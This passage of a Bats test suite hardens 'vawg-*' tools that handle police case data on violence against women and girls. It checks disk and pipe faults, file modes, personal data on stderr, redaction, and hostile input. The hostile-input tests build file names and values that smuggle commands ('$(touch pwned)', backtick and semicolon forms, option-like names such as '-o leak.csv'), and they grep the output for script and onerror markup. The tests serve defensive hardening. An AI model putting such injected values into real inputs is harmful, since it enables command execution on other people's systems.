#!/usr/bin/env bats
# Hardening: faults (full disk, closed pipe, killed runs, unreadable
# inputs, oversized and malformed input), file modes and personal data
# on stderr, for every program present in the build.  Each check runs
# once per program through the recipes in hardening.bash; a program not
# built yet is simply not in the loop.
load helper
load hardening

# --- Faults -------------------------------------------------------------

full_disk() {
	[ "$STDOUT" = 1 ] || return 0
	local args=("${CMD[@]}")
	if [ "$INPUTS" = 1 ]; then
		[ -n "$INOPT" ] && args+=("$INOPT")
		args+=("$H/$KIND.csv")
	fi
	"${args[@]}" >/dev/full 2>err
	st=$?
	if [ "$st" != 74 ] || ! grep -q "^$1: " err; then
		echo "$1: >/dev/full exited $st: $(cat err)"
		return 1
	fi
}

@test "faults: standard output on a full disk exits 74 with a message" {
	each full_disk
}

full_disk_o() {
	run_prog /dev/full "$H/$KIND.csv"
	if [ "$st" != 74 ] || ! grep -q "^$1: " err; then
		echo "$1: -o /dev/full exited $st: $(cat err)"
		return 1
	fi
}

@test "faults: -o /dev/full exits 74 with a message" {
	each full_disk_o
}

closed_pipe() {
	local args=("${CMD[@]}") st
	[ "$STDOUT" = 1 ] || return 0
	if [ "$INPUTS" = 1 ]; then
		big_input 20000 >big.csv
		[ -n "$INOPT" ] && args+=("$INOPT")
		args+=(big.csv)
	else
		args+=(--rows 20000)
	fi
	"${args[@]}" 2>err | head -1 >/dev/null
	st=${PIPESTATUS[0]}
	if { [ "$st" != 0 ] && [ "$st" != 141 ]; } || [ -s err ]; then
		echo "$1: | head -1 exited $st: $(cat err)"
		return 1
	fi
}

@test "faults: | head -1 ends quietly" {
	each closed_pipe
}

killed_run() {
	local args=("${CMD[@]}" -o out.csv) pid i left seen=
	echo previous >out.csv
	if [ "$INPUTS" = 1 ]; then
		mkfifo in.fifo
		[ -n "$INOPT" ] && args+=("$INOPT")
		args+=(in.fifo)
	else
		args+=(--rows 50000000)
	fi
	"${args[@]}" 2>err &
	pid=$!
	if [ "$INPUTS" = 1 ]; then
		# Part of an input, and the pipe left open: the run is mid-way.
		exec 5>in.fifo
		big_input 2000 >&5
	fi
	# Wait until the temporary file is there (at most 1 s).
	for i in $(seq 10); do
		ls -A | grep -q '^\.out\.csv\.' && { seen=1; break; }
		sleep 0.1
	done
	kill -KILL "$pid"
	wait "$pid" 2>/dev/null
	[ "$INPUTS" = 1 ] && exec 5>&-
	if [ -z "$seen" ]; then
		# The output is opened late: leave a temporary file as a run
		# killed at that moment would (its process is gone).
		(exit 0) &
		wait $!
		echo partial >".out.csv.tmp.$!.AbC123"
	fi
	if [ "$(cat out.csv)" != previous ]; then
		echo "$1: killed run changed the previous file"
		return 1
	fi
	rm -f in.fifo
	run_prog out.csv "$H/$KIND.csv"
	left=$(ls -A | grep -v -e '^out\.csv$' -e '^out\.stdout$' -e '^err$')
	if [ "$st" -gt 1 ] || [ -n "$left" ]; then
		echo "$1: next run exited $st, left: $left"
		return 1
	fi
}

@test "faults: a run killed with SIGKILL leaves the previous -o file, the next run no stray file" {
	each killed_run
}

# A missing input and a good one: exit 66 naming the missing one, and the
# good one still processed.
missing_input() {
	local ins=(no-such.csv "$H/$KIND.csv")
	[ "$INPUTS" = 1 ] || return 0
	[ "$MULTI" = 1 ] || ins=(no-such.csv)
	run_prog - "${ins[@]}"
	if [ "$st" != 66 ] || ! grep -q "^$1: .*no-such.csv" err; then
		echo "$1: missing input exited $st: $(cat err)"
		return 1
	fi
	if [ "$PARTIAL" = 1 ] && [ "$(wc -l <out.stdout)" -lt 2 ]; then
		echo "$1: the other input was not processed"
		return 1
	fi
	if [ "$PARTIAL" = 0 ] && { [ -s out.stdout ] || [ -e out.bin ]; }; then
		echo "$1: wrote output without one of its inputs"
		return 1
	fi
}

@test "faults: a missing input exits 66 and the other inputs are processed" {
	each missing_input
}

# A folder given as an input is an input that cannot be opened.
folder_input() {
	local ins=(adir "$H/$KIND.csv")
	[ "$INPUTS" = 1 ] || return 0
	[ "$MULTI" = 1 ] || ins=(adir)
	mkdir adir
	run_prog - "${ins[@]}"
	if [ "$st" != 66 ] || ! grep -q "^$1: adir" err; then
		echo "$1: a folder as input exited $st: $(cat err)"
		return 1
	fi
}

@test "faults: a folder as input exits 66" {
	each folder_input
}

# A file without read permission, for a user who is not root.
unreadable_input() {
	local ins=(secret.csv "$H/$KIND.csv") prog
	[ "$INPUTS" = 1 ] || return 0
	[ "$MULTI" = 1 ] || ins=(secret.csv)
	cp "$H/$KIND.csv" secret.csv
	chmod 000 secret.csv
	prog=$(command -v "${CMD[0]}")
	CMD[0]=$prog
	CMD=(setpriv --reuid=65534 --regid=65534 --clear-groups "${CMD[@]}")
	chmod 777 .
	run_prog - "${ins[@]}"
	if [ "$st" != 66 ] || ! grep -q "^$1: secret.csv: Permission denied" err; then
		echo "$1: unreadable input exited $st: $(cat err)"
		return 1
	fi
}

@test "faults: an unreadable input exits 66 (run as nobody)" {
	local p
	command -v setpriv >/dev/null || skip "no setpriv"
	p=$(programs | head -1)
	[ -n "$p" ] || skip "no program built yet"
	setpriv --reuid=65534 --regid=65534 --clear-groups \
	    "$(command -v "$p")" --version >/dev/null 2>&1 ||
	    skip "programs cannot run as nobody here"
	chmod 755 "$BATS_TEST_TMPDIR"
	each unreadable_input
}

# bad_input NAME: runs the recipe on the file bad.csv; it must end with
# a "prog: file:line:" message naming the bad line, and neither crash nor
# run out of memory.
bad_input() {
	local what=$1 p=$2
	run_prog - bad.csv
	if [ "$what" = "invalid UTF-8" ] && [ "$REPAIRS" = 1 ] &&
	    [ "$st" = 0 ] && grep -q "^$p: bad.csv:[0-9]*: .*UTF-8" err; then
		return 0
	fi
	if crashed "$st" || [ "$st" = 0 ] ||
	    ! grep -q "^$p: bad.csv:[0-9][0-9]*: " err; then
		echo "$p: $what exited $st: $(head -c 300 err)"
		return 1
	fi
}

# A row of the recipe's kind with one field replaced by text from stdin.
row_with() {
	"$PY" -c '
import sys
rows = open(sys.argv[1]).read().split("\n")
val = sys.stdin.buffer.read()
sys.stdout.buffer.write((rows[0] + "\n" + rows[1] + "\n").encode())
f = rows[2].split(",")
f[int(sys.argv[2])] = "@@"
a, b = ",".join(f).encode().split(b"@@")
sys.stdout.buffer.write(a + val + b + b"\n")
' "$H/$KIND.csv" "$BADCOL"
}

huge_field() {
	[ "$INPUTS" = 1 ] || return 0
	head -c 3000000 /dev/zero | tr '\0' x | row_with >bad.csv
	bad_input "a 3 MB field" "$1"
}

@test "faults: a field above the size limit is a clear error" {
	each huge_field
}

long_line() {
	[ "$INPUTS" = 1 ] || return 0
	# 40 MB of short fields: above the 16 MiB record limit.
	yes 'x,' | head -c 40000000 | tr -d '\n' | row_with >bad.csv
	bad_input "a 40 MB line" "$1"
}

@test "faults: a very long line is a clear error" {
	each long_line
}

nul_byte() {
	[ "$INPUTS" = 1 ] || return 0
	printf 'Ann\0e' | row_with >bad.csv
	bad_input "a NUL byte" "$1"
}

@test "faults: a NUL byte is a clear error" {
	each nul_byte
}

bad_utf8() {
	[ "$INPUTS" = 1 ] || return 0
	# Not UTF-8, and not CP1252 either (0x81 is undefined there).
	printf 'Ren\xe9e\x81' | row_with >bad.csv
	bad_input "invalid UTF-8" "$1"
}

@test "faults: invalid UTF-8 is a clear error" {
	each bad_utf8
}

# --- File modes -----------------------------------------------------------

# created_modes: "mode name" of everything made in the current folder
# by the run, apart from the test's own files.
created_modes() {
	find . -mindepth 1 ! -name err ! -name out.stdout ! -name '*.fifo' \
	    -printf '%m %P\n' | sort
}

# check_modes PROG WANT_FILE WANT_DIR: every file made has mode
# WANT_FILE, every folder WANT_DIR.
check_modes() {
	local bad
	bad=$(find . -mindepth 1 ! -name err ! -name out.stdout \
	    \( \( -type f ! -perm "$2" \) -o \( -type d ! -perm "$3" \) \) \
	    -printf '%m %P\n')
	if [ -n "$bad" ]; then
		echo "$1: wrong modes (want $2, folders $3): $bad"
		return 1
	fi
}

file_modes() {
	local s out=out.csv
	[ "$1" = vawg-xlsx ] && out=out.xlsx
	EXTRA=($(side_args))
	# Even with umask 000 nothing is readable by others.
	(umask 000 && run_prog "$out" "$H/$KIND.csv" && echo "$st" >st)
	st=$(cat st)
	rm st
	if [ "$st" -gt 1 ] || [ ! -s "$out" ]; then
		echo "$1: exited $st: $(cat err)"
		return 1
	fi
	check_modes "$1" 600 700 || return 1
	created_modes | sed -e 's/[0-9][0-9]*\.html$/N.html/' -e "s/^/# $1: /" |
	    uniq >&3
	# --mode changes it.
	rm -rf ./*
	EXTRA+=(--mode 640)
	(umask 000 && run_prog "$out" "$H/$KIND.csv")
	check_modes "$1 --mode 640" 640 750
}

@test "modes: every file a program makes is 0600, or --mode" {
	each file_modes
}

# --- Personal data on stderr ----------------------------------------------

# Runs the recipe on its kind with planted errors (bad dates, bad PNC
# check letters, text after a closing quote, a short row, text in number columns):
# stderr may name files, lines and columns, never a value.
quiet_about_people() {
	local out=out.csv leak
	[ "$INPUTS" = 1 ] || return 0
	[ "$1" = vawg-xlsx ] && out=out.xlsx
	EXTRA=($(side_args))
	run_prog "$out" "$H/planted-$KIND.csv"
	if crashed "$st"; then
		echo "$1: exited $st: $(cat err)"
		return 1
	fi
	if leak=$(grep -F -o -f "$H/pii.txt" err); then
		echo "$1: personal data on stderr: $leak"
		return 1
	fi
	[ -s err ] || echo "# $1: nothing on stderr" >&3
}

@test "personal data: no name, date of birth or PNC ID on stderr" {
	each quiet_about_people
}

# --- Hostile input -----------------------------------------------------------
# tests/data/hostile/README says what each program must do with these.


# Values from the data that a message must never repeat (long enough not
# to match a program's own words).
hostile_patterns() {
	awk 'length($0) >= 5' "$H/hostile-values.txt"
}

hostile_input() {
	local out=out.csv leak
	[ "$INPUTS" = 1 ] || return 0
	[ "$1" = vawg-xlsx ] && out=out.xlsx
	EXTRA=($(side_args))
	run_prog "$out" "$H/hostile-$KIND.csv"
	if ! ok_status "$st"; then
		echo "$1: hostile input exited $st: $(head -c 300 err)"
		return 1
	fi
	if [ "$st" != 0 ] && ! grep -q "^$1: " err; then
		echo "$1: exited $st without a message"
		return 1
	fi
	if [ -n "$(find . /tmp/vawg-escape -name 'pwned*' 2>/dev/null)" ] ||
	    [ -e /tmp/vawg-escape ]; then
		echo "$1: a value was run or used as a path"
		return 1
	fi
	if leak=$(grep -F -o -f <(hostile_patterns) err); then
		echo "$1: a value on stderr: $leak"
		return 1
	fi
	echo "# $1: hostile input: exit $st" >&3
}

@test "hostile: formulas, shell syntax, markup, paths, huge numbers and years 0 and 9999 are data" {
	each hostile_input
}

# A header of a million columns (the kind's own columns first) and one
# row: a clear error or a normal run, within a minute (even under ASan
# on a busy machine), never a crash.
million_columns() {
	local out=out.csv
	[ "$INPUTS" = 1 ] || return 0
	[ "$1" = vawg-xlsx ] && out=out.xlsx
	"$PY" - "$H/$KIND.csv" >wide.csv <<'PY'
import sys
lines = open(sys.argv[1]).read().split("\n")
extra = 1000000 - lines[0].count(",") - 1
sys.stdout.write(lines[0] + "".join(",c%d" % i for i in range(extra)) +
                 "\n" + lines[1] + "," * extra + "\n")
PY
	SECONDS=0
	# A program that takes quadratic time on the header never ends.
	CMD=(timeout -s KILL 60 "${CMD[@]}")
	run_prog "$out" wide.csv
	if ! ok_status "$st"; then
		echo "$1: a million columns exited $st: $(head -c 300 err)"
		return 1
	fi
	if [ "$st" != 0 ] && ! grep -q "^$1: " err; then
		echo "$1: exited $st without a message"
		return 1
	fi
	echo "# $1: a million columns: exit $st in ${SECONDS}s $(head -c 200 err)" >&3
}

@test "hostile: a million columns" {
	[ "${VAWG_VALGRIND:-}" != 1 ] || skip "too slow under valgrind"
	each million_columns
}

# --- Every source and mode: personal data, file modes -----------------------

# leak_check NAME CMD...: runs CMD in the current folder; fails when it
# crashed or printed a name, date of birth or PNC ID on stderr.
leak_check() {
	local what=$1 st leak
	shift
	"$@" >/dev/null 2>err
	st=$?
	if ! ok_status "$st"; then
		echo "$what: exited $st: $(head -c 300 err)"
		return 1
	fi
	if leak=$(grep -F -o -f "$H/pii.txt" err); then
		echo "$what: personal data on stderr: $leak"
		return 1
	fi
}

@test "personal data: every kind, source and mode, with planted errors" {
	local k m bad=0 P=$H/planted
	[ -n "$(programs)" ] || skip "no program built yet"
	if need_quiet vawg-ingest; then
		for k in crime order wanted marac disclosure engagement; do
			leak_check "ingest $k" vawg-ingest --kind $k \
			    --as-of 2026-10-31 --rejects rej.csv "$P-$k.csv" ||
			    bad=1
		done
	fi
	if need_quiet vawg-stats; then
		for m in "charge-rate crime" "outcomes crime" "repeat crime" \
		    "orders order" "wanted wanted" "marac marac" \
		    "disclosures disclosure" "engagement engagement"; do
			set -- $m
			leak_check "stats $1" vawg-stats "$1" --at 2026-10-31 \
			    "$P-$2.csv" || bad=1
		done
	fi
	if need_quiet vawg-dedupe; then
		leak_check "dedupe --role" vawg-dedupe --role suspect \
		    --pairs pairs.csv --index persons.db "$P-crime.csv" || bad=1
		leak_check "dedupe --role victim" vawg-dedupe --role victim \
		    "$P-marac.csv" || bad=1
	fi
	if need_quiet vawg-rank; then
		leak_check "rank" vawg-rank --as-of 2025-12-31 --explain \
		    --orders "$P-order.csv" --wanted "$P-wanted.csv" \
		    "$P-crime.csv" || bad=1
	fi
	if need_quiet vawg-marac-pack; then
		leak_check "marac-pack sources" vawg-marac-pack \
		    --cases "$H/marac.csv" --crimes "$P-crime.csv" \
		    --orders "$P-order.csv" --wanted "$P-wanted.csv" \
		    --disclosures "$P-disclosure.csv" --marac "$P-marac.csv" \
		    --engagement "$P-engagement.csv" --html html \
		    --findings f.csv || bad=1
		leak_check "marac-pack cases" vawg-marac-pack \
		    --cases "$P-marac.csv" --crimes "$H/crime.csv" || bad=1
	fi
	if need_quiet vawg-xlsx; then
		leak_check "xlsx" vawg-xlsx -o out.xlsx "$P-crime.csv" \
		    "$P-order.csv" "$P-marac.csv" || bad=1
	fi
	[ "$bad" = 0 ]
}

@test "modes: vawg-dedupe --pairs and --index files are 0600" {
	need vawg-dedupe
	(umask 000 && vawg-dedupe --role suspect --pairs pairs.csv \
	    --index persons.db -o out.csv "$H/crime.csv")
	[ "$(file_mode pairs.csv)" = 600 ]
	[ "$(file_mode persons.db)" = 600 ]
	[ "$(file_mode out.csv)" = 600 ]
	# Rewriting the index keeps it so.
	(umask 000 && vawg-dedupe --role suspect --index persons.db \
	    "$H/crime.csv" >/dev/null)
	[ "$(file_mode persons.db)" = 600 ]
	rm -f ./*.csv persons.db
	(umask 000 && vawg-dedupe --mode 640 --role suspect --pairs pairs.csv \
	    --index persons.db -o out.csv "$H/crime.csv")
	[ "$(file_mode pairs.csv)" = 640 ]
	[ "$(file_mode persons.db)" = 640 ]
	[ "$(file_mode out.csv)" = 640 ]
}

# --- Hostile input, program by program ----------------------------------------

@test "hostile: vawg-dedupe --key passes every hostile value through unchanged" {
	need vawg-dedupe
	# The fixture is what Python's csv module writes: minimal quoting,
	# LF, like ours; every key is distinct, so nothing is dropped.
	vawg-dedupe --key crime_ref "$H/hostile-crime.csv" 2>/dev/null |
	    cmp - "$H/hostile-crime.csv"
}

@test "hostile: vawg-xlsx writes values beginning with = + - @ as text, never formulas" {
	need vawg-xlsx
	vawg-xlsx -o out.xlsx "crime=$H/hostile-crime.csv" \
	    "marac=$H/hostile-marac.csv"
	# No formula element in any sheet.
	run unzip -p out.xlsx 'xl/worksheets/*.xml'
	[ "$status" = 0 ]
	[[ "$output" != *"<f>"* ]] && [[ "$output" != *"<f "* ]]
	# Every cell beginning with = + - @ that is not a number is a string
	# with the value unchanged (checked against the CSV by openpyxl).
	"$PY" - out.xlsx "$H/hostile-crime.csv" "$H/hostile-marac.csv" <<'PY'
import csv, re, sys
from openpyxl import load_workbook
wb = load_workbook(sys.argv[1])
number = re.compile(r"^[-+]?[0-9]+(\.[0-9]+)?$")
bad = 0
for ws, path in zip(wb.worksheets, sys.argv[2:]):
    rows = list(csv.reader(open(path, newline="")))
    for r, row in enumerate(rows):
        for c, v in enumerate(row):
            if not v or v[0] not in "=+-@" or number.match(v):
                continue
            cell = ws.cell(row=r + 1, column=c + 1)
            if cell.data_type != "s" or cell.value != v:
                print("cell", cell.coordinate, repr(cell.value),
                      cell.data_type, "for", repr(v))
                bad += 1
sys.exit(1 if bad else 0)
PY
}

@test "hostile: vawg-marac-pack escapes every value and keeps file names inside --html" {
	need vawg-marac-pack
	mkdir work && cd work
	run vawg-marac-pack --cases "$H/hostile-cases.csv" \
	    --crimes "$H/hostile-crime.csv" --orders "$H/hostile-order.csv" \
	    --html pages --findings f.csv -o s.csv
	[ "$status" = 0 ] || [ "$status" = 1 ]
	# Nothing made outside the working folder, nothing hidden, no
	# folder inside pages.
	[ ! -e /tmp/vawg-escape ] && [ ! -e ../vawg-escape ]
	[ "$(ls -A .. | grep -v '^work$')" = "" ]
	[ -z "$(find pages -mindepth 1 \( -type d -o -name '.*' \))" ]
	[ -z "$(find . -name 'pwned*')" ]
	# Every page names its case without markup from the data.
	[ "$(ls pages | wc -l)" -gt 1 ]
	! grep -l -i -e '<script' -e 'onerror=' -e '<img' -e '<h1>x' pages/*
	grep -q '&lt;script&gt;' pages/*.html
	# Breach counts beyond any integer are unknown, never added up to
	# a wrapped or saturated total (hostile-order.csv has such counts).
	"$PY" - s.csv <<'PY'
import csv, sys
for r in csv.DictReader(open(sys.argv[1])):
    b = r["order_breaches"]
    assert b == "" or 0 <= int(b) < 1000, (r["marac_ref"], b)
PY
	# Every case reference got a page of its own.
	cases=$("$PY" -c 'import csv,sys; print(len(list(csv.DictReader(open(sys.argv[1])))))' \
	    "$H/hostile-cases.csv")
	[ "$(ls pages | grep -vc '^index\.html$')" -eq "$cases" ]
}

@test "hostile: monthly-report reads exports named with spaces, a newline, a leading dash, \$(…) and globs, and writes nothing outside its folders" {
	need vawg-synth
	vawg-synth --all sd --seed 5 --scale 0.05 --end 2026-10
	export TMPDIR="$PWD/tmp"
	mkdir tmp work
	cd work
	IN=$'-in $(touch pwned) *'
	OUT=$'-o leak.csv\n[a]*'
	ST=$'--state $(touch pwned)'
	mkdir -- "$IN"
	# The crime export twice (the second copy is a duplicate of every
	# row, removed by reference), under names that would be options or
	# commands if split or evaluated.
	cp -- ../sd/raw/crime-export.csv "$IN/"$'crime\n-oleak.csv'
	cp -- ../sd/raw/crime-export.csv "$IN/crime \$(touch pwned) [a]*?.csv"
	cp -- ../sd/raw/wanted-export.csv "$IN/"$'wanted\n--rejects=leak.csv'
	cp -- ../sd/raw/orders-export.csv "$IN/orders; touch pwned; \`touch pwned\`.csv"
	cp -- ../sd/raw/marac-export.csv "$IN/marac -o leak.csv .csv"
	cp -- ../sd/raw/dvds-export.xlsx "$IN/"$'dvds \\ \' " \t.xlsx'
	cp -- ../sd/raw/engagement-export.csv "$IN/engagement *.csv"
	cp -- ../sd/raw/population-estimates.csv "$IN/population -- -.csv"
	cp -- ../sd/marac-list.csv "$IN/marac-list \$(id).csv"
	top() { find . -mindepth 1 -maxdepth 1 -print0 | sort -z; }
	top >../cwd.before
	find "./$IN" -print0 | sort -z >../in.before
	run monthly-report --month 2026-09 --in "$IN" --out "$OUT" --state "$ST"
	[ "$status" -eq 0 ] || { echo "$output"; return 1; }
	# Only the report's two folders are new; the inputs and TMPDIR are
	# as they were; no file made by a name run as a command or option.
	{ cat ../cwd.before; printf './%s\0' "$OUT" "$ST"; } | sort -z >../cwd.want
	top | cmp - ../cwd.want
	find "./$IN" -print0 | sort -z | cmp - ../in.before
	[ -z "$(ls -A "$TMPDIR")" ]
	[ -z "$(find . .. /tmp -maxdepth 1 \( -name pwned -o -name leak.csv \) 2>/dev/null)" ]
	[ -z "$(find "./$OUT" "./$ST" \( -name pwned -o -name leak.csv \))" ]
	# Every kind was read: the headline figures of the raw files.
	"$PY" "$DATA/monthly-report/headline.py" ../sd 2026-09 >want.csv
	want() { awk -F, -v k="$1" '$1 == k { print $2 }' want.csv; }
	got() { awk -F, -v k="$1" '$1 == k { print $2 }' "$OUT/2026-09/tables/summary.csv"; }
	[ "$(got 'VAWG charges')" = "$(want vawg_charges)" ]
	[ "$(got 'MARAC cases')" = "$(want marac_cases)" ]
	[ "$(got "Clare's Law requests")" = "$(want disclosure_requests)" ]
	[ "$(got 'SPOs in force at the month end')" = "$(want spo_in_force)" ]
	[ "$(got 'Domestic-abuse offenders wanted at the month end')" = "$(want wanted_da)" ]
	[ "$(want vawg_charges)" -gt 0 ]
	[ -f "$OUT/2026-09/vawg-report-2026-09.xlsx" ]
	ls -- "$OUT/2026-09/marac-packs/html/"*.html >/dev/null
	[ -f "$ST/vawg100-2026-09.csv" ]
}

# --- vawg-marac-pack: all or nothing, redaction, streams ----------------

MP="$DATA/vawg-marac-pack"

mp_all() {
	vawg-marac-pack --cases "$MP/cases.csv" --crimes "$MP/crimes.csv" \
	    --orders "$MP/orders.csv" --wanted "$MP/wanted.csv" \
	    --disclosures "$MP/disclosures.csv" --marac "$MP/marac.csv" \
	    --engagement "$MP/engagement.csv" "$@"
}

# Checksums of every output and a listing of both folders, hidden
# entries included (a temporary file left behind shows here).
mp_snapshot() {
	sha256sum a.csv f.csv s.csv out/*
	ls -A . out
}

@test "faults: vawg-marac-pack failing at any stage leaves the previous outputs byte-identical" {
	need vawg-marac-pack
	mkdir w && cd w
	mp_all --findings f.csv --summary s.csv --html out --audit a.csv
	mp_snapshot >../before
	# The case list has 3 cases: pages 1 to 3, then the index, then the
	# audit line, each made to fail as on a full disk; the second run
	# would change every output (--redact) and append to the audit.
	R=victim_forename,perpetrator_forename,record_forename
	for stage in findings summary page:1 page:2 page:3 page index audit; do
		VAWG_FAULT=$stage mp_all --findings f.csv --summary s.csv \
		    --html out --audit a.csv --redact "$R" 2>../err && st=0 ||
		    st=$?
		[ "$st" = 74 ] || { echo "$stage: exit $st"; false; }
		grep -q '^vawg-marac-pack: .*write error' ../err
		mp_snapshot | diff ../before - ||
		    { echo "$stage: changed"; false; }
	done
	# Standard output and a device are written once everything else is
	# staged, before anything is committed.
	VAWG_FAULT=summary run -74 mp_all --findings f.csv --html out \
	    --audit a.csv -o -
	mp_snapshot | diff ../before -
	run -74 mp_all --findings f.csv --html out --audit a.csv -o /dev/full
	mp_snapshot | diff ../before -
	# Without a fault the same run replaces every output.
	mp_all --findings f.csv --summary s.csv --html out --audit a.csv \
	    --redact "$R"
	[ "$(grep -c . a.csv)" = 3 ]
	[ "$(sha256sum f.csv)" != "$(grep ' f.csv$' ../before)" ]
	run -1 grep -rl Anna f.csv s.csv out
}

# redaction_leaks FAMILY INPUT...: every value of a FAMILY column in the
# inputs (by the words of the column names), long enough to be told apart
# and never a value of another column, is looked for in every byte of
# every file in the current folder; prints what is found where.
redaction_leaks() {
	"$PY" - "$@" <<'PY'
import csv, html, os, sys
fam = {
    'dob': {'dob', 'birth'},
    'name': {'forename', 'forenames', 'surname', 'name', 'names', 'alias',
             'aliases'},
    'pnc': {'pnc'}, 'address': {'address', 'town', 'street'},
    'postcode': {'postcode'}, 'phone': {'phone', 'mobile', 'telephone', 'tel'},
    'email': {'email'},
}[sys.argv[1]]
mine, other = set(), set()
for path in sys.argv[2:]:
    for row in csv.DictReader(open(path, newline='', encoding='utf-8-sig')):
        for col, v in row.items():
            (mine if fam & set(col.split('_')) else other).add(v)
values = {v for v in mine - other if len(v) >= 4}
assert len(values) >= 3, values
forms = {v: {v.encode(), html.escape(v).encode(),
             html.escape(v).replace('&#x27;', '&#39;').encode(),
             v.replace('"', '""').encode()} for v in values}
found = 0
for top, dirs, files in os.walk('.'):
    for f in files:
        data = open(os.path.join(top, f), 'rb').read()
        for v, fs in forms.items():
            if any(x in data for x in fs):
                print(f'{os.path.join(top, f)}: {v}')
                found += 1
print(f'{len(values)} values, {found} found')
PY
}

@test "personal data: --redact FAMILY leaves no value of that family in any output byte" {
	need vawg-marac-pack
	# The case list with every family in both roles.
	"$PY" - "$MP/cases.csv" cases.csv <<'PY'
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline='')))
extra = ['victim_address', 'victim_town', 'victim_phone', 'victim_email',
         'perpetrator_postcode', 'perpetrator_address', 'perpetrator_phone',
         'perpetrator_email']
w = csv.DictWriter(open(sys.argv[2], 'w', newline=''),
                   list(rows[0]) + extra, lineterminator='\n')
w.writeheader()
for i, r in enumerate(rows):
    r.update({
        'victim_address': f'{i + 11} Acacia Avenue', 'victim_town': f'Townvic{i}',
        'victim_phone': f'07700 900{i:03d}', 'victim_email': f'vic{i}@example.org',
        'perpetrator_postcode': f'ZX{i} 9QQ',
        'perpetrator_address': f'{i + 21} Laburnum Road',
        'perpetrator_phone': f'07700 901{i:03d}',
        'perpetrator_email': f'perp{i}@example.org'})
    w.writerow(r)
PY
	inputs=("$T/cases.csv" "$MP/crimes.csv" "$MP/orders.csv"
	    "$MP/wanted.csv" "$MP/disclosures.csv" "$MP/marac.csv"
	    "$MP/engagement.csv")
	for family in dob name pnc address postcode phone email; do
		rm -rf o && mkdir o && cd o
		# Without --redact the check finds the values: it can fail.
		vawg-marac-pack --cases ../cases.csv --crimes "$MP/crimes.csv" \
		    --orders "$MP/orders.csv" --wanted "$MP/wanted.csv" \
		    --disclosures "$MP/disclosures.csv" --marac "$MP/marac.csv" \
		    --engagement "$MP/engagement.csv" --findings f.csv \
		    -o s.csv --html out --audit a.csv
		run redaction_leaks "$family" "${inputs[@]}"
		[[ "$output" == *" found" && "$output" != *" 0 found" ]] ||
		    { echo "$family: nothing to find"; echo "$output"; false; }
		echo "# $family, not redacted: ${lines[-1]}" >&3
		rm -rf f.csv s.csv out a.csv
		vawg-marac-pack --cases ../cases.csv --crimes "$MP/crimes.csv" \
		    --orders "$MP/orders.csv" --wanted "$MP/wanted.csv" \
		    --disclosures "$MP/disclosures.csv" --marac "$MP/marac.csv" \
		    --engagement "$MP/engagement.csv" --findings f.csv \
		    -o s.csv --html out --audit a.csv --redact "$family"
		run redaction_leaks "$family" "${inputs[@]}"
		[[ "$output" == *" 0 found" ]] ||
		    { echo "--redact $family:"; echo "$output"; false; }
		cd ..
	done
}

@test "faults: vawg-marac-pack reads a FIFO source once, never hangs" {
	need vawg-marac-pack
	mp_all --findings f0.csv -o s0.csv
	mkfifo crimes.fifo orders.fifo
	cat "$MP/crimes.csv" >crimes.fifo &
	cat "$MP/orders.csv" >orders.fifo &
	run -0 timeout 60 vawg-marac-pack --cases "$MP/cases.csv" \
	    --crimes crimes.fifo --orders orders.fifo --wanted "$MP/wanted.csv" \
	    --disclosures "$MP/disclosures.csv" --marac "$MP/marac.csv" \
	    --engagement "$MP/engagement.csv" --findings f.csv -o s.csv
	cmp f0.csv f.csv
	cmp s0.csv s.csv
}

# --- Nothing personal on stderr, on any path ---------------------------------

# The recipe run on files whose every cell is a unique marker: a header
# and rows of markers, the same without a header line (the first record
# becomes the header), and a first row holding one marker twice (a
# repeated "column name"), each with and without --strict.
markers_quiet() {
	local out=out.csv f s bad=0
	[ "$INPUTS" = 1 ] || return 0
	[ "$1" = vawg-xlsx ] && out=out.xlsx
	marker_files "$H/$KIND.csv"
	for f in mk.csv mk-noheader.csv mk-dup.csv; do
		for s in "" --strict; do
			EXTRA=($(side_args) $s)
			run_prog "$out" "$f"
			if crashed "$st"; then
				echo "$1 $f $s: exited $st: $(head -c 300 err)"
				bad=1
			fi
			no_markers "$1 $f $s" || bad=1
			rm -rf html
		done
	done
	[ "$bad" = 0 ]
}

@test "personal data: no cell of a marker file on stderr (headerless, repeated names, bad rows)" {
	each markers_quiet
}

# mk_check WHAT CMD...: runs CMD; fails when it crashed or a marker is
# on stderr.
mk_check() {
	local what=$1 st
	shift
	"$@" >/dev/null 2>err
	st=$?
	if crashed "$st"; then
		echo "$what: exited $st: $(head -c 300 err)"
		return 1
	fi
	no_markers "$what"
}

@test "personal data: no marker on stderr for any kind, source, mode or option" {
	local k f m bad=0
	[ -n "$(programs)" ] || skip "no program built yet"
	for k in crime order wanted marac disclosure engagement population; do
		[ -f "$H/$k.csv" ] || continue
		mkdir "$k"
		(cd "$k" && marker_files "$H/$k.csv")
	done
	for f in mk.csv mk-noheader.csv mk-dup.csv; do
		if need_quiet vawg-ingest; then
			for k in crime order wanted marac disclosure engagement; do
				mk_check "ingest $k $f" vawg-ingest --kind $k \
				    --as-of 2026-10-31 "$k/$f" || bad=1
				mk_check "ingest $k $f --rejects" vawg-ingest \
				    --kind $k --as-of 2026-10-31 \
				    --rejects rej.csv "$k/$f" || bad=1
				mk_check "ingest $k $f --strict" vawg-ingest \
				    --kind $k --strict "$k/$f" || bad=1
			done
			mk_check "ingest police.uk $f" vawg-ingest \
			    --profile police-uk-street "crime/$f" || bad=1
			mk_check "ingest two inputs $f" vawg-ingest --kind crime \
			    "$H/crime.csv" "crime/$f" || bad=1
		fi
		if need_quiet vawg-stats; then
			for m in "count crime" "charge-rate crime" \
			    "outcomes crime" "repeat crime" "orders order" \
			    "wanted wanted" "marac marac" \
			    "disclosures disclosure" "engagement engagement"; do
				set -- $m
				mk_check "stats $1 $f" vawg-stats "$1" \
				    --at 2026-10-31 "$2/$f" || bad=1
			done
			mk_check "stats --population $f" vawg-stats orders \
			    --population "population/$f" "$H/order.csv" || bad=1
		fi
		if need_quiet vawg-dedupe; then
			mk_check "dedupe --role $f" vawg-dedupe --role suspect \
			    --pairs pairs.csv "crime/$f" || bad=1
			mk_check "dedupe --index $f" vawg-dedupe --role suspect \
			    --index "crime/$f" "$H/crime.csv" || bad=1
			mk_check "dedupe --keep $f" vawg-dedupe --key crime_ref \
			    --keep latest:reported_date "crime/$f" || bad=1
		fi
		if need_quiet vawg-rank; then
			mk_check "rank $f" vawg-rank --as-of 2025-12-31 \
			    --orders "order/$f" --wanted "wanted/$f" \
			    "crime/$f" || bad=1
			mk_check "rank --previous $f" vawg-rank \
